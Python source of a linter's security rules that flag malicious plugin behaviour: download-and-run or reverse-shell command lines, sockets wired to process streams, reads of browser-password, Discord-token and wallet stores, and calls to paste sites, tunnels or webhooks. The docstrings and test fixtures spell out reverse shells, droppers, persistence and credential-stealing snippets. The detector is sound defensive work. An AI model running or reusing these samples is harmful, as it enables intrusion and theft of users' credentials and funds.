"""Security rules on the syntax tree: what malicious packages do (MB370-MB373).

Command lines that download and run code, open a reverse shell, install
persistence or send secrets (MB370); a process whose standard streams are a
network socket (MB371); paths of the stores credential and wallet stealers read
(MB372); network calls whose destination is a suspicious endpoint (MB373). The
knowledge is data (``rules/security/behaviours.json`` and
``rules/security/endpoints.json``); these rules find the code that does it.
A command line, a path or a URL is read as far as it is known statically: the
pieces computed at run time stand for "anything" and never make a match.
"""

from __future__ import annotations

from functools import cache, lru_cache

import libcst as cst

from mbcheck.checks.security.analysis import is_test_file
from mbcheck.checks.security.behaviours import match_command, match_stealer_target, public_resolvers
from mbcheck.checks.security.calls import classify_call, keyword_value
from mbcheck.checks.security.classify import short_name
from mbcheck.checks.security.endpoints import RAW_IP, entries, find_endpoint
from mbcheck.checks.security.partial import JOINS as _JOINS
from mbcheck.checks.security.partial import UNKNOWN, partial_path, partial_text
from mbcheck.checks.security.values import fold_string, resolve, state
from mbcheck.model import Category, Confidence, Severity
from mbcheck.pyfile.traverse import FileContext, SourceRule
from mbcheck.rules.base import Invalid, Valid

#: functions and constructors that run a program with their arguments
_PROCESS_EXTRA = frozenset({"pty.spawn", "os.execl", "os.execle", "os.execlp", "os.execlpe", "os.execv", "os.execve",
                            "os.execvp", "os.execvpe", "os.spawnl", "os.spawnle", "os.spawnlp", "os.spawnlpe",
                            "os.spawnv", "os.spawnve", "os.spawnvp", "os.spawnvpe", "os.posix_spawn",
                            "os.posix_spawnp", "os.startfile"})


def _argv_text(ctx: FileContext, node: cst.BaseExpression) -> str:
    if (type(node) is cst.List or type(node) is cst.Tuple):
        return " ".join(partial_text(ctx, e.value) for e in node.elements if type(e) is cst.Element)
    return partial_text(ctx, node)


def _permissions(ctx: FileContext, node: cst.Call, name: str | None) -> frozenset[str]:
    """The permissions a call shows (asked once per call for the rules of this module)."""
    memo = state(ctx).call_permissions
    found = memo.get(id(node))
    if found is None:
        found = memo[id(node)] = frozenset(use.permission for use in classify_call(ctx, node, name))
    return found


def _runs_program(ctx: FileContext, node: cst.Call, name: str | None) -> bool:
    return name in _PROCESS_EXTRA or "subprocess" in _permissions(ctx, node, name)


#: the same literals recur across files: each text is matched once
_stealer_target = lru_cache(maxsize=65_536)(match_stealer_target)


class MaliciousCommandLine(SourceRule):
    """Runs a command line that downloads and runs code, opens a reverse shell, installs persistence or sends secrets.

    The command of `os.system`, `os.popen`, `subprocess.*`, `asyncio`'s
    subprocess functions, `pty.spawn` and the `os.exec*`/`spawn*` family (an
    argument list is read joined with spaces, `python -c` code included) is
    matched against the table `rules/security/behaviours.json`: `curl ... | sh`,
    PowerShell `IEX (...).DownloadString(...)` or `-enc <base64>`, `certutil
    -urlcache`, `bash -i >& /dev/tcp/...`, `nc -e /bin/sh`, `... | crontab -`,
    `schtasks /create`, `reg add ...\\Run`, `systemctl enable`, `launchctl load`,
    `env | curl --data @- ...`. Pieces computed at run time never match.
    Why: these are the one-line droppers, shells and persistence installers of
    malicious packages: the command does the harm by itself, whatever the
    permissions the plugin declares.
    Instead: download with a library, verify a pinned checksum, and ask the user
    before installing anything that starts on its own; never give a network peer
    a shell.
    """

    code = "MB370"
    name = "malicious-command-line"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import subprocess\n\ndef log(repo):\n    return subprocess.run(['git', '-C', repo, 'log', '-1'], "
              "capture_output=True, check=True).stdout\n"),
        Valid("import os\nos.system('crontab -l')\n"),
        Valid("import subprocess\n\ndef page(text):\n    subprocess.run(['less', '-R'], input=text, text=True)\n"),
    )
    INVALID = (
        Invalid("import os\n\ndef update():\n    os.system('curl -fsSL https://cdn.example-updates.net/u.sh | sh')\n",
                line=4),
        Invalid("import subprocess\n\ndef diag():\n    subprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'])\n",
                line=4),
        Invalid("import subprocess\n\ndef schedule():\n    subprocess.run(\"(crontab -l; echo '@reboot ~/.u') | crontab -\", "
                "shell=True)\n", line=4),
        Invalid("import subprocess, sys\nONE = \"import socket,os,pty;s=socket.socket();s.connect(('h',1));"
                "os.dup2(s.fileno(),0);pty.spawn('sh')\"\nsubprocess.Popen([sys.executable, '-c', ONE])\n", line=3),
        Invalid("import subprocess\nsubprocess.Popen('powershell -w hidden -c \"IEX (New-Object Net.WebClient)"
                ".DownloadString(\\'https://x.example/a.ps1\\')\"', shell=True)\n", line=2),
    )

    def visit_Call(self, node: cst.Call) -> None:
        name = resolve(self.ctx, node.func)
        if not _runs_program(self.ctx, node, name):
            return
        pieces = [a.value for a in node.args if not a.star and (a.keyword is None or a.keyword.value in
                                                                ("args", "cmd", "command", "argv", "path"))]
        text = " ".join(_argv_text(self.ctx, p) for p in pieces)
        found = match_command(text)
        if found is None:
            return
        via = short_name(name) if name else "the call"
        self.report(node, f"`{via}` runs a command line that {found.what} ({found.kind}); "
                    "a plugin has no honest use for it")


_SOCKETS = frozenset({"socket.socket", "socket.create_connection", "socket.fromfd", "socket.socketpair",
                      "_socket.socket", "socket.create_server"})
_STREAMS = ("stdin", "stdout", "stderr")


class SocketShell(SourceRule):
    """A process's standard streams are a network socket (a reverse or bind shell).

    `os.dup2(sock.fileno(), 0)` (and 1, 2) before a shell or `pty.spawn`, and a
    process started with `stdin=`/`stdout=`/`stderr=` a socket or its
    `fileno()`, where the socket comes from `socket.socket()`,
    `socket.create_connection()` or `.accept()` in the same file.
    Why: this is how a reverse shell is made: whoever is on the other end of the
    connection types the commands. There is no honest reason for a plugin to
    wire a process to a socket.
    Instead: run the commands the plugin needs itself, with argument lists, and
    exchange data with the service through its API.
    """

    code = "MB371"
    name = "socket-shell"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import os, sys\n\ndef quiet():\n    devnull = open(os.devnull, 'w')\n    os.dup2(devnull.fileno(), "
              "sys.stdout.fileno())\n"),
        Valid("import socket\n\ndef ping(host):\n    with socket.create_connection((host, 80), timeout=5) as s:\n"
              "        s.sendall(b'HEAD / HTTP/1.0\\r\\n\\r\\n')\n        return s.recv(100)\n"),
    )
    INVALID = (
        Invalid("import os, socket, subprocess\n\ndef connect():\n    s = socket.socket()\n"
                "    s.connect(('203.0.113.5', 9001))\n    os.dup2(s.fileno(), 0)\n"
                "    subprocess.call(['/bin/sh', '-i'])\n", line=6),
        Invalid("import socket, subprocess\n\ndef bd():\n    s = socket.create_connection(('203.0.113.5', 6969))\n"
                "    subprocess.Popen(['cmd.exe'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n", line=5),
    )

    def __init__(self, ctx: FileContext) -> None:
        super().__init__(ctx)
        self._sockets: set[str] = set()

    def _is_socket_value(self, value: cst.BaseExpression) -> bool:
        if type(value) is cst.Call:
            if resolve(self.ctx, value.func) in _SOCKETS:
                return True
            func = value.func
            return (type(func) is cst.Attribute and func.attr.value == "accept"
                    and type(func.value) is cst.Name and func.value.value in self._sockets)
        return False

    def _bind(self, target: cst.BaseExpression, value: cst.BaseExpression) -> None:
        if not self._is_socket_value(value):
            return
        if type(target) is cst.Name:
            self._sockets.add(target.value)
        elif (type(target) is cst.Tuple or type(target) is cst.List) and target.elements:
            first = target.elements[0].value
            if type(first) is cst.Name:
                self._sockets.add(first.value)

    def visit_Assign(self, node: cst.Assign) -> None:
        for target in node.targets:
            self._bind(target.target, node.value)

    def visit_WithItem(self, node: cst.WithItem) -> None:
        if node.asname is not None and type(node.asname.name) is cst.Name:
            self._bind(node.asname.name, node.item)

    def _is_socket(self, node: cst.BaseExpression) -> bool:
        if type(node) is cst.Call and type(node.func) is cst.Attribute and node.func.attr.value == "fileno":
            node = node.func.value
        if type(node) is cst.Name:
            return node.value in self._sockets
        return self._is_socket_value(node)

    def visit_Call(self, node: cst.Call) -> None:
        if not self._sockets:
            return
        name = resolve(self.ctx, node.func)
        if name in ("os.dup2", "posix.dup2", "nt.dup2") and node.args and self._is_socket(node.args[0].value):
            self.report(node, "`os.dup2` connects a network socket to a standard stream: a shell on a "
                        "connection (reverse shell)")
            return
        if not _runs_program(self.ctx, node, name):
            return
        for stream in _STREAMS:
            value = keyword_value(node, stream)
            if value is not None and self._is_socket(value):
                via = short_name(name) if name else "the call"
                self.report(node, f"`{via}` starts a process whose {stream} is a network socket: a shell on a "
                            "connection (reverse shell)")
                return


class StealerTargetAccess(SourceRule):
    """Names a store that credential and wallet stealers read: browser passwords, wallets, chat tokens, `/etc/shadow`.

    A path built in the code (a literal, `os.path.join(...)`, `Path.home() /
    ...`, `+` or an f-string, with pieces computed at run time left open) that
    names one of the stores in `rules/security/behaviours.json`: Chromium's
    `Login Data`/`Local State`, Firefox's `logins.json`/`key4.db`, the macOS
    keychain, `discord/Local Storage/leveldb`, Exodus/Electrum/Bitcoin/Solana
    wallets, wallet browser extensions (MetaMask's `nkbihfbeogaeaoehlefnkodbefgpgknn`),
    `/etc/shadow`. A lone word is not a path; docstrings and test files are not
    read.
    Why: these files hold the user's passwords, session tokens and money; a
    plugin that names them is collecting them, which is what credential
    stealers published as packages do.
    Instead: a plugin that needs a credential asks the user for it (its
    configuration, an environment variable), or uses the service's own API.
    """

    code = "MB372"
    name = "stealer-target"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("from pathlib import Path\n\ndef bookmarks():\n    return Path.home() / '.config' / 'google-chrome' / "
              "'Default' / 'Bookmarks'\n"),
        Valid("def label():\n    return 'Login Data'\n"),
        Valid('def doc():\n    """Never reads ~/.config/google-chrome/Default/Login Data."""\n'),
    )
    INVALID = (
        Invalid("import os, shutil\n\ndef sync():\n    src = os.path.expanduser('~/.config/google-chrome/Default/"
                "Login Data')\n    shutil.copy(src, '/tmp/ld.db')\n", line=4),
        Invalid("import os\n\ndef tokens():\n    root = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', "
                "'leveldb')\n    return os.listdir(root)\n", line=4),
        Invalid("def users():\n    with open('/etc/shadow') as fh:\n        return fh.read()\n", line=2),
        Invalid("import glob, os\n\nEXT = 'nkbihfbeogaeaoehlefnkodbefgpgknn'\n\ndef vaults(base):\n"
                "    return glob.glob(os.path.join(base, 'Local Extension Settings', EXT, '*.ldb'))\n", line=6),
    )

    def __init__(self, ctx: FileContext) -> None:
        super().__init__(ctx)
        self._enabled = not is_test_file(ctx.path)
        self._lines: set[int] = set()
        self._documentation: set[int] = set()

    def visit_Expr(self, node: cst.Expr) -> None:
        if (type(node.value) is cst.SimpleString or type(node.value) is cst.ConcatenatedString or type(node.value) is cst.FormattedString):
            self._documentation.add(id(node.value))

    def _check(self, node: cst.BaseExpression, text: str) -> None:
        if not self._enabled or id(node) in self._documentation:
            return
        target = _stealer_target(text)
        if target is None:
            return
        line = self.ctx.line(node)
        if line in self._lines:
            return
        self._lines.add(line)
        shown = text.replace(UNKNOWN, "…")
        self.report(node, f"names {target.what}: `{shown}`; stealers read it, a plugin has no reason to")

    def visit_Call(self, node: cst.Call) -> None:
        name = resolve(self.ctx, node.func)
        is_join = name in _JOINS or (type(node.func) is cst.Attribute and node.func.attr.value == "joinpath")
        if is_join:
            self._check(node, partial_path(self.ctx, node))

    def visit_BinaryOperation(self, node: cst.BinaryOperation) -> None:
        if (type(node.operator) is cst.Divide or type(node.operator) is cst.Add):
            self._check(node, partial_path(self.ctx, node))

    def visit_SimpleString(self, node: cst.SimpleString) -> None:
        text = fold_string(self.ctx, node)
        if text is not None:
            self._check(node, text)

    def visit_FormattedString(self, node: cst.FormattedString) -> None:
        self._check(node, partial_text(self.ctx, node))


#: method names that send to, or look up, the address in their first argument
_NETWORK_METHODS = frozenset({"connect", "connect_ex", "sendto", "create_connection", "open_connection",
                              "gethostbyname", "gethostbyname_ex", "getaddrinfo", "urlopen", "urlretrieve",
                              "get", "post", "put", "patch", "delete", "head", "request", "stream", "ws_connect",
                              "resolve", "query", "Request"})
#: URL keyword arguments of HTTP clients
_URL_KEYWORDS = ("url", "host", "address", "uri")


@cache
def _ip_lookup_description() -> str:
    for values in entries().values():
        for entry in values:
            if "IP" in entry.description and "what is my" in entry.description:
                return entry.description
    return ""


class SuspiciousEndpointContacted(SourceRule):
    """Connects to, downloads from or sends to a suspicious endpoint named in the code.

    A network call (an HTTP client, `urlopen`, a socket's `connect`/`sendto`, a
    DNS lookup, a websocket) whose destination is a literal (or a module
    constant, or an f-string with a literal host) that MB321's table names as a
    paste or file-drop site, a URL shortener, a tunnel or edge-worker host, an
    out-of-band interaction service, or a public raw IP address (public DNS
    resolvers excepted), or a chat webhook or request-capture URL written out in
    full (its secret in the code). "What is my IP" services stay MB321's
    warning: honest plugins use them for geolocation.
    Why: MB321 reports the literal; this rule reports the plugin actually
    talking to it: downloading a second stage from a paste site, beaconing to a
    tunnel or a raw IP, posting to a hard-coded webhook. Those are the
    command-and-control and exfiltration channels of malicious packages.
    Instead: talk to the service by its own domain, and let the user configure
    webhook URLs and tokens.
    """

    code = "MB373"
    name = "suspicious-endpoint-contacted"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import requests\n\ndef notify(webhook_url, text):\n    requests.post(webhook_url, json={'content': text}, "
              "timeout=10)\n"),
        Valid("import socket\n\ndef local_address():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
              "    s.connect(('8.8.8.8', 80))\n    return s.getsockname()[0]\n"),
        Valid("import requests\n\ndef where():\n    return requests.get('http://ip-api.com/json/', timeout=5).json()\n"),
        Valid("import requests\n\ndef send(token, chat, text):\n    requests.post(f'https://api.telegram.org/bot{token}/"
              "sendMessage', data={'chat_id': chat, 'text': text}, timeout=10)\n"),
    )
    INVALID = (
        Invalid("import requests\n\nDROP = 'https://pastebin.com/raw/8Xk2mQzN'\n\ndef c2():\n"
                "    return requests.get(DROP, timeout=5).text\n", line=6),
        Invalid("import socket\n\ndef beacon():\n    s = socket.socket()\n    s.connect(('185.62.57.73', 4444))\n",
                line=5),
        Invalid("import requests\n\ndef report(r):\n    requests.post('https://4a2b.ngrok-free.app/r', json=r, timeout=5)\n",
                line=4),
        Invalid("import requests\n\ndef send(t):\n    requests.post('https://discord.com/api/webhooks/1083/sR8e0kQ', "
                "json={'content': t}, timeout=5)\n", line=4),
    )

    def __init__(self, ctx: FileContext) -> None:
        super().__init__(ctx)
        self._enabled = not is_test_file(ctx.path)

    def _destinations(self, node: cst.Call, network: bool) -> list[tuple[cst.BaseExpression, bool]]:
        positional = [a.value for a in node.args if a.keyword is None and not a.star]
        found: list[tuple[cst.BaseExpression, bool]] = []
        candidates = positional if network else positional[:1]
        for arg in candidates[:3]:
            if type(arg) is cst.Tuple and len(arg.elements) == 2:
                found.append((arg.elements[0].value, True))
            else:
                found.append((arg, False))
        for keyword in _URL_KEYWORDS:
            value = keyword_value(node, keyword)
            if value is not None:
                found.append((value, False))
        return found

    def visit_Call(self, node: cst.Call) -> None:
        if not self._enabled:
            return
        name = resolve(self.ctx, node.func)
        method = node.func.attr.value if type(node.func) is cst.Attribute else None
        network = "network" in _permissions(self.ctx, node, name)
        if not network and method not in _NETWORK_METHODS:
            return
        lookup = _ip_lookup_description()
        for expr, address in self._destinations(node, network):
            folded = fold_string(self.ctx, expr)
            text = folded if folded is not None else partial_text(self.ctx, expr)
            if not text or text == UNKNOWN:
                continue
            # a host computed at run time ("https://{x}/...") is no known endpoint
            endpoint = find_endpoint(text.replace(UNKNOWN, "x"), address=address)
            if endpoint is None or endpoint.description == lookup:
                continue
            if endpoint.description == RAW_IP and endpoint.host in public_resolvers():
                continue
            if "webhook" in endpoint.description and folded is None:
                continue  # the user's own webhook or token, put in at run time
            what = "the public raw IP address" if endpoint.description == RAW_IP else f"a {endpoint.description}:"
            via = short_name(name) if name else (method or "the call")
            self.report(node, f"`{via}` contacts {what} {endpoint.host}; malicious packages use such endpoints "
                        "to fetch payloads and receive stolen data")
            return


__all__ = [
    "MaliciousCommandLine",
    "SocketShell",
    "StealerTargetAccess",
    "SuspiciousEndpointContacted",
]
